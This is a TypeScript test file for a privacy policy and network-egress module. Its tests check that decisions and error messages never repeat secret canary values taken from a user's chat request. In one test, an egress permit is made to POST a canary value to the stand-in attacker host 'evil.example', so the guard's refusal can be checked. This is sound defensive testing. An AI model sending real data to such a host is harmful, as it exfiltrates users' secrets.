// What the policy says about a request must not repeat it: no error, explanation or receipt quotes a value.
import { describe, expect, it } from 'vitest';
import type { ChatRequest } from '../types.ts';
import { makeCanaries } from './canaries.fixture.ts';
import { createEgress, createPolicy, type PolicyDocument, PRESETS } from './index.ts';

const canaries = makeCanaries(3, 23);
const input = { task: 'generate', consent: 'cloud' } as const;

/** Everything a thrown value would show in a log, causes included. */
function told(error: unknown): string {
  if (!(error instanceof Error)) return String(error);
  const inner = error instanceof AggregateError ? error.errors.map(told).join() : '';
  return `${error.name} ${error.message} ${error.stack} ${JSON.stringify(error)} ${inner} ${told(error.cause ?? '')}`;
}

async function caught(work: () => unknown): Promise<string> {
  try {
    await work();
  } catch (error) {
    return told(error);
  }
  throw new Error('expected a failure');
}

describe('no quotation of the request', () => {
  it.each(canaries.map((canary) => [canary.kind, canary.value]))('%s %s', async (_kind, value) => {
    const request: ChatRequest = { messages: [{ role: 'user', content: `It is ${value}.` }] };
    const said: string[] = [];
    for (const preset of Object.keys(PRESETS) as (keyof typeof PRESETS)[]) {
      const review = await createPolicy(preset).review(request, input);
      said.push(JSON.stringify(review.decision));
    }
    const strict = await createPolicy('strict').review(request, input);
    said.push(await caught(() => strict.redactFor('cloud')));
    const detector = {
      id: 'leaky',
      detect: (text: string) => {
        throw new Error(`could not read ${text}`);
      },
    };
    const failed = await createPolicy('open', { detectors: [detector] }).review(request, input);
    said.push(JSON.stringify(failed.decision), await caught(() => failed.redactFor('edge')));
    const egress = createEgress({ allowHosts: ['api.example'], fetch: async () => new Response('ok') });
    const permit = egress.open({
      decision: { ...strict.decision, farthest: 'edge' },
      tier: { id: 't', kind: 'edge' },
      host: 'api.example',
    });
    said.push(
      await caught(() =>
        permit.fetch(`https://evil.example/?q=${encodeURIComponent(value)}`, { body: value, method: 'POST' }),
      ),
    );
    const document = { ...PRESETS.balanced, [value]: value } as PolicyDocument;
    said.push(await caught(() => createPolicy(document)));
    for (const text of said) expect(text).not.toContain(value);
  });
});
